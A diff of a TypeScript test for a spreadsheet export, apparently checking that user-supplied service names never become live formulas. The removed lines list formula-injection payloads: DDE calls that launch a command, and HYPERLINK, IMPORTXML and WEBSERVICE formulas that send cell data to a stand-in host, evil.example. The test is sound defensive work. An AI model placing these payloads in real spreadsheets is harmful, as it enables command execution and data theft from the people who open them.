@@ -2,38 +2,25 @@
 import { expect, it } from 'vitest';
 import { readSpreadsheet } from '../../../src/reports/workbook/xlsx/read-spreadsheet.ts';
 import { openZip } from '../../../src/reports/workbook/xlsx/unzip.ts';
+import { LIVE_PATTERNS } from '../live-patterns.ts';
 import { editFile } from './edit-file.ts';
 import { exported, workbook } from './shipped.ts';
 
-/** How a cell has to begin so that some program takes it for a formula, or for something that it runs. */
-const BEGINNINGS = [
-  ...['=', '+', '-', '@', '==', '=+', '+-', '-+', '@@', '=@', '"=', "'=", '{=', '=(', '|'],
-  ...[' =', '\u00a0=', '\u3000=', '\ufeff=', '\u200b=', '\t=', '\r=', '\n=', '\u0000=', ';=', ',='],
-  ...['＝', '＋', '－', '＠', '\u2212'],
-];
-const TAILS = [
-  '1+1',
-  "cmd|'/C calc'!A0",
-  'HYPERLINK("https://evil.example?"&A1,"Katso")',
-  'IMPORTXML("https://evil.example","//a")',
-  'WEBSERVICE("https://evil.example/"&A1)',
-  'DDE("cmd";"/C calc";"1")',
-  "SUM('2 Kasvatus ja koulutus'!A1:A9)",
-  '[evil.xlsx]Sheet1!A1',
-];
-const PATTERNS = BEGINNINGS.flatMap(beginning => TAILS.map(tail => beginning + tail));
 /** Services of people's own that one area has room for. */
 const MOST = 30;
 
-it(`none of ${PATTERNS.length} patterns is live in a spreadsheet`, () => {
-  expect(PATTERNS.length).toBeGreaterThanOrEqual(200);
+it(`none of ${LIVE_PATTERNS.length} patterns is live in a spreadsheet`, () => {
+  expect(LIVE_PATTERNS.length).toBeGreaterThanOrEqual(200);
   const atOnce = MOST * workbook.areas.length;
   const formulas = formulasIn(
-    exported(workbookWith(PATTERNS.slice(0, atOnce).map((_, at) => `Palvelu ${at}`))),
+    exported(workbookWith(LIVE_PATTERNS.slice(0, atOnce).map((_, at) => `Palvelu ${at}`))),
   );
   expect(formulas.length).toBeGreaterThan(1000);
-  for (let from = 0; from < PATTERNS.length; from += atOnce) {
-    const names = Array.from({ length: atOnce }, (_, at) => PATTERNS[(from + at) % PATTERNS.length] ?? '');
+  for (let from = 0; from < LIVE_PATTERNS.length; from += atOnce) {
+    const names = Array.from(
+      { length: atOnce },
+      (_, at) => LIVE_PATTERNS[(from + at) % LIVE_PATTERNS.length] ?? '',
+    );
     const file = exported(workbookWith(names));
     const texts = textsIn(file);
     expect(names.filter(name => !texts.has(plain(name)))).toEqual([]);
